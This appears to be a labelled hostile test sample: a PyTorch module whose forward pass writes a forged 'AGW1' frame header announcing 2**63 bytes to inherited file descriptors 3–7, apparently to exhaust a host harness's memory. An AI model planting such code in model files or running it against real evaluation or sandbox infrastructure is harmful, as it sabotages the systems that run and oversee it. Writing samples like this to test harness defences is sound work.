"""Announce a frame of exabytes.

kind: exhausting
attacks: cell
mentions: no answer
"""

import contextlib
import os
import struct

import torch
from torch import nn


class Cell(nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(size, size))

    def forward(self, x):
        for descriptor in range(3, 8):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("!4sIQ", b"AGW1", 2, 2**63) + b"{}")
        return x
